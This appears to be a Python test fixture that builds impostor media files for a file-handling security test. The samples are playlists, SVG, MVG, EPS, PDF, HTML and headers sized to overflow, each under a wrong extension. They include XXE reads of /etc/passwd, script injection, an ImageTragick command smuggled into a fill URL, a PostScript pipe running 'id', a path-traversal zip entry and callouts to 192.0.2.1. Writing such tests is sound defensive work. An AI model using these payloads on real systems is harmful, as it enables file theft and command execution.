"""Texts and programs under the names of pictures and films; what they name must not be opened.

`SECRET` lies beside them as a bait, and 192.0.2.1 (RFC 5737) is nobody's address.
"""

from __future__ import annotations

import io
import struct
import zipfile
from functools import partial

from support.clips import make_clip
from support.stills import jpeg, scene
from support.traps.trap import LARGE_BYTES, Trap

SECRET = "secret.txt"
"""The name of a file that the texts point to."""

_AWAY = "http://192.0.2.1/secret.txt"
_HLS = f"#EXTM3U\n#EXTINF:10,\n{SECRET}\n#EXTINF:10,\n{_AWAY}\n#EXT-X-ENDLIST\n"
_DASH = f"""<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>
<Representation id="1" mimeType="video/mp4"><BaseURL>{_AWAY}</BaseURL></Representation>
</AdaptationSet></Period></MPD>"""
_SDP = "v=0\no=- 0 0 IN IP4 192.0.2.1\ns=x\nc=IN IP4 192.0.2.1\nt=0 0\nm=video 5000 RTP/AVP 96\n"
_SVG = f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">
<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<script>alert(1)</script><text>&x;&b;</text><image xlink:href="file:///{SECRET}"/>
<image href="{_AWAY}" width="1000000" height="1000000"/></svg>"""
_MVG = f"""push graphic-context
viewbox 0 0 640 480
image over 0,0 0,0 'ephemeral:{SECRET}'
fill 'url({_AWAY}"|touch /tmp/x")'
pop graphic-context
"""
_EPS = f"%!PS-Adobe-3.0 EPSF-3.0\n({SECRET}) (r) file pop (%pipe%id) (w) file\n"
_PDF = f"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI({_AWAY})>>>>endobj\ntrailer<</Root 1 0 R>>"
_HTML = f"<!doctype html><script src='{_AWAY}'></script><img src=x onerror=alert(1)>"
_PLS = f"[playlist]\nFile1={_AWAY}\nNumberOfEntries=1\n"
_SMIL = f"<smil><body><video src='{_AWAY}'/></body></smil>"
_XPM = '/* XPM */\nstatic char *x[] = {\n"65535 65535 1 1",\n"a c None",\n'
_FITS = b"SIMPLE  =                    T".ljust(80) + b"NAXIS1  =           4294967295".ljust(80)
_EXE = b"MZ\x90\0" + bytes(56) + struct.pack("<L", 64) + b"PE\0\0d\x86" + bytes(200)
_ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(200)
_XCF = b"gimp xcf v011\0" + struct.pack(">LLLL", 2**31, 2**31, 0, 0) + bytes(64)
_DJVU = b"AT&TFORM" + struct.pack(">L", 2**31) + b"DJVMDIRM" + bytes(64)
_EXR = b"\x76\x2f\x31\x01\x02\0\0\0channels\0chlist\0" + struct.pack("<L", 2**31) + bytes(64)
_DDS = b"DDS " + struct.pack("<LLLL", 124, 0x1007, 65_536, 65_536) + bytes(110)
_WMF = b"\xd7\xcd\xc6\x9a" + bytes(6) + struct.pack("<HH", 65_535, 65_535) + bytes(64)
_SGI = b"\x01\xda\x01\x01\0\3" + struct.pack(">HHH", 65_535, 65_535, 65_535) + bytes(500)
_FLI = struct.pack("<LHHHH", 2**31, 0xAF12, 65_535, 65_535, 65_535) + bytes(128)


def _jpeg_zip() -> bytes:
    """A sound photo that is a ZIP archive, too: of a page and of 4 GB of zeros, both claims."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../index.html", _HTML)
        archive.writestr("zeros", bytes(10_000_000))
    return jpeg(scene()) + file.getvalue()


def _jpeg_page() -> bytes:
    """A sound photo that is a page with a script, too."""
    sound, words = jpeg(scene()), b"*/=1;alert(1);/*" + _HTML.encode()
    return sound[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + sound[2:]


def _in_box(text: str) -> bytes:
    """Begins as an old QuickTime file does."""
    return b"\0\0\0\x08wide" + text.encode()


def _text(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def _no_film(name: str, file: str, text: str | bytes, what: str) -> Trap:
    return Trap(name, file, partial(_text, text), what, "wrong_extension", LARGE_BYTES)


def _no_picture(name: str, file: str, text: str | bytes, what: str) -> Trap:
    return Trap(name, file, partial(_text, text), what, "wrong_extension")


IMPOSTORS: tuple[Trap, ...] = (
    _no_film(
        "ffconcat", "list.mov", f"ffconcat version 1.0\nfile {SECRET}\n", "ffprobe 5.1 opened it"
    ),
    _no_film("ffconcat far", "far.mp4", f"ffconcat version 1.0\nfile {_AWAY}\n", "would call out"),
    _no_film("hls", "hls.mp4", _HLS, "CVE-2016-1898: what the list names ends in the film"),
    _no_film("hls as avi", "hls.avi", _HLS + "GAB2", "the same under another name"),
    Trap(
        "hls in a box",
        "hls.mov",
        partial(_in_box, _HLS),
        "begins as a film does",
        "truncated",
        LARGE_BYTES,
    ),
    _no_film("dash", "dash.mp4", _DASH, "names a server and a file"),
    _no_film("sdp", "sdp.avi", _SDP, "opens ports to listen at"),
    _no_film("strm", "stream.mkv", _AWAY + "\n", "Kodi's and Jellyfin's .strm: a mere address"),
    _no_film("playlist", "pls.wmv", _PLS, "what Winamp wrote"),
    _no_film("smil", "smil.mov", _SMIL, "what RealPlayer wrote"),
    _no_film("rtsp text", "rtsp.mov", "RTSPtextrtsp://192.0.2.1/x\n", "QuickTime followed it"),
    _no_film(
        "image2 pattern", "image%03d.avi", "image%03d.jpg\n", "a name that FFmpeg would count up"
    ),
    Trap(
        "svg",
        "drawing.svg",
        partial(_text, _SVG),
        "scripts, entities of files, a million pixels a side",
        "listed",
    ),
    _no_picture("svg as png", "svg.png", _SVG + "<!-- -->", "where libraries guess, it is drawn"),
    _no_picture("mvg", "mvg.jpg", _MVG, "ImageTragick, CVE-2016-3714 to -3718"),
    _no_picture("eps", "eps.psd", _EPS, "Ghostscript runs it"),
    _no_picture("pdf", "pdf.jpg", _PDF, "libvips would draw it"),
    _no_picture("html", "page.jpg", _HTML, "a page with a script"),
    _no_picture("xpm", "xpm.png", _XPM, "a program in C"),
    _no_picture("fits", "fits.tif", _FITS, "libvips' untrusted loader"),
    _no_picture("exe", "exe.jpg", _EXE, "a program for Windows"),
    _no_picture("elf", "elf.png", _ELF, "a program for Linux"),
    _no_picture("xcf", "xcf.png", _XCF, "2³¹ pixels a side"),
    _no_picture("djvu", "djvu.jpg", _DJVU, "ExifTool ran it as a program, CVE-2021-22204"),
    _no_picture("exr", "exr.tif", _EXR, "libvips' untrusted loader"),
    _no_picture("dds", "dds.png", _DDS, "Pillow would read it"),
    _no_picture("wmf", "wmf.jpg", _WMF, "Windows would run it, CVE-2005-4560"),
    _no_picture("sgi", "sgi.png", _SGI, "Pillow would read 281 TB"),
    _no_picture("fli", "fli.gif", _FLI, "Pillow would read it"),
    Trap("jpeg and zip", "archive.jpg", _jpeg_zip, "a photo and an archive", "shown"),
    Trap("jpeg and page", "script.jpg", _jpeg_page, "a photo and a script", "shown"),
    Trap(
        "film under a pattern's name",
        "frame%d.mp4",
        partial(make_clip, "mp4", "mpeg4"),
        "sound; FFmpeg given the name would look for frame1.mp4",
        "shown",
        LARGE_BYTES,
    ),
)
